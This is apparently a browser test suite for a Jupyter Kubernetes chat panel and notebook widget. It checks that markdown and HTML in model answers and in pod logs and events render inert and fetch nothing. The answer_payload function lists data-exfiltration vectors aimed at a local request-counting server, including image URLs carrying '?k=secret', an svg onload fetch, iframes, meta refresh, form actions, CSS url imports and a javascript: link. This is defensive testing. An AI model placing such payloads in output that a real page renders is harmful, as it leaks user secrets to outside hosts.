"""Cluster text and model answers stay data in the panel and the notebook widget (issue 13).

Payloads in a model answer (the demo model's ``say``) and in the sample cluster's pod logs and
events (``payload_cluster.py``) point every kind of resource at a loopback server that counts
requests. Rendered in a real Chromium: it counts zero, the text is still readable, and links
open in a new tab without opener or referrer.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import screenshot
from exfil import RequestCounter, counting_server
from kchat_lab import EXPOSE_APP, SCREENSHOTS, KChatLab
from payload_cluster import EVENT_MARKER, LOG_MARKER
from playwright.sync_api import Browser, Locator, Page, expect
from safe_rendering import (
    FORBIDDEN,
    assert_nothing_fetched,
    assert_rendered_inert,
    assert_safe_links,
    open_notebook,
    panel_answer,
    prove_counter_works,
    wait_own_image,
    watched_page,
)
from test_panel_browser import PANEL, ask, wait_idle

pytestmark = pytest.mark.browser

ANSWER_MARKER = "PAYLOAD_ANSWER_END"


def answer_payload(exfil: str, base_url: str) -> str:
    """Every payload the issue names, one per block, plus one image the page may load: ours."""
    return "\n\n".join(
        [
            "## Report",
            f"![chart]({exfil}/md-image?k=secret)",
            f'<img src="{exfil}/img?k=secret" alt="pixel"> after the image',
            f'<img srcset="{exfil}/srcset 2x">',
            f'<iframe src="{exfil}/iframe"></iframe>',
            f'<object data="{exfil}/object"></object><embed src="{exfil}/embed">',
            f'<svg onload="fetch(\'{exfil}/svg-onload\')"><image href="{exfil}/svg-image"/></svg>',
            f'<video poster="{exfil}/poster" src="{exfil}/video"></video>',
            f'<link rel="stylesheet" href="{exfil}/link.css">',
            f'<meta http-equiv="refresh" content="0;url={exfil}/refresh">',
            f'<base href="{exfil}/base/">',
            f'<form action="{exfil}/form"><input name="q" value="x"><button>Send</button></form>',
            f'<p style="background:url({exfil}/style-url)">styled text</p>',
            f"<style>@import url({exfil}/import.css); body {{ background: url({exfil}/body) }}</style>",
            "[click me](javascript:alert(1)) and [the docs](https://kubernetes.io/docs/)",
            f'<img src="{base_url}static/favicons/favicon.ico" alt="own">',
            ANSWER_MARKER,
        ]
    )


def logs_card(scope: Locator) -> Locator:
    """The last ``get_pod_logs`` card in the panel or widget, once the payload log is in it."""
    name = scope.page.locator(".jp-kchat-tool-name", has_text="get_pod_logs")
    card = scope.locator(".jp-kchat-tool-call").filter(has=name).last
    expect(card).to_contain_text(LOG_MARKER)
    return card


@pytest.fixture(scope="module")
def exfil() -> Iterator[RequestCounter]:
    with counting_server() as counter:
        yield counter


@pytest.fixture(scope="module")
def payload_lab(
    tmp_path_factory: pytest.TempPathFactory, exfil: RequestCounter
) -> Iterator[KChatLab]:
    script = Path(__file__).with_name("payload_cluster.py")
    command = [sys.executable, "-u", str(script), "--exfil", exfil.url]
    lab = KChatLab(
        tmp_path_factory.mktemp("kchat-payload"), cluster_command=command, extra_args=[EXPOSE_APP]
    )
    with lab.running():
        yield lab


@pytest.fixture
def payload_page(
    kchat_browser: Browser,
    payload_lab: KChatLab,
    kchat_workspace: str,
    request: pytest.FixtureRequest,
) -> Iterator[Page]:
    with watched_page(kchat_browser, payload_lab, kchat_workspace, request) as page:
        yield page


def test_answer_payloads_fetch_nothing_in_the_panel(
    payload_page: Page, payload_lab: KChatLab, exfil: RequestCounter
) -> None:
    page = payload_page
    url = page.url
    answer = panel_answer(page, "say " + answer_payload(exfil.url, payload_lab.base_url))
    assert_rendered_inert(page, answer, ANSWER_MARKER, exfil)
    assert page.url == url
    # Readable: the text stays, blocked resources show their URL as a link.
    for text in ("Report", "after the image", "styled text", "click me", "the docs", "Send"):
        expect(answer).to_contain_text(text)
    blocked = answer.locator("a.jp-kchat-blocked")
    expect(blocked.filter(has_text=f"{exfil.url}/md-image?k=secret")).to_have_count(1)
    expect(blocked.filter(has_text=f"{exfil.url}/iframe")).to_have_count(1)
    expect(blocked.filter(has_text=f"{exfil.url}/svg-image")).to_have_count(1)
    expect(blocked.filter(has_text=f"{exfil.url}/poster")).to_have_count(1)
    assert_safe_links(answer)
    expect(answer.locator("a[href]", has_text="click me")).to_have_count(0)
    styled = answer.get_by_text("styled text")
    assert styled.evaluate("node => getComputedStyle(node).backgroundImage") == "none"
    screenshot(page, "panel_safe_answer.png")
    prove_counter_works(page, exfil)


def test_cluster_payloads_fetch_nothing_in_the_panel(
    payload_page: Page, payload_lab: KChatLab, exfil: RequestCounter
) -> None:
    page = payload_page
    ask(page, "show the logs of payments-api in payments")
    wait_idle(page)
    logs = logs_card(page.locator(PANEL))
    # The log shows as text, the payload readable as it was written.
    expect(logs).to_contain_text(f'<iframe src="{exfil.url}/log-iframe"></iframe>')
    ask(page, "show warning events in payments")
    wait_idle(page)
    events = page.locator(f"{PANEL} .jp-kchat-tool-call").filter(has_text=EVENT_MARKER).last
    expect(events).to_be_visible()
    own = f'<img src="{payload_lab.base_url}static/favicons/favicon.ico" alt="own">'
    wait_own_image(panel_answer(page, f"say Done. {own}"))
    cards = page.locator(f"{PANEL} .jp-kchat-items")
    assert cards.locator(FORBIDDEN).count() == 0
    assert_nothing_fetched(page, exfil)
    logs.scroll_into_view_if_needed()
    screenshot(page, "panel_safe_cluster_text.png")
    prove_counter_works(page, exfil)


def test_answer_and_cluster_payloads_fetch_nothing_in_the_widget(
    payload_page: Page, payload_lab: KChatLab, exfil: RequestCounter
) -> None:
    """The real ``ChatWidget`` in a notebook: same cards, same sanitizer, same zero."""
    page = payload_page
    question = "say " + answer_payload(exfil.url, payload_lab.base_url)
    open_notebook(
        page,
        payload_lab,
        "safe_widget.ipynb",
        f"from jupyter_kchat import ChatWidget\nw = ChatWidget({json.dumps(question)})\nw",
    )
    widget = page.locator(".jp-Notebook .jp-kchat-widget")
    answer = widget.locator(".jp-kchat-assistant").last
    assert_rendered_inert(page, answer, ANSWER_MARKER, exfil)
    for text in ("Report", "after the image", "styled text", "click me", "the docs"):
        expect(answer).to_contain_text(text)
    expect(
        answer.locator("a.jp-kchat-blocked", has_text=f"{exfil.url}/img?k=secret")
    ).to_have_count(1)
    assert_safe_links(answer)
    box = widget.locator("textarea[aria-label='Message']")
    box.fill("show the logs of payments-api in payments")
    box.press("Enter")
    logs_card(widget)
    expect(widget.locator(".jp-kchat-stop")).to_be_hidden()
    assert widget.locator(FORBIDDEN).count() == 0
    assert_nothing_fetched(page, exfil)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    widget.screenshot(path=str(SCREENSHOTS / "widget_safe_rendering.png"))
    prove_counter_works(page, exfil)
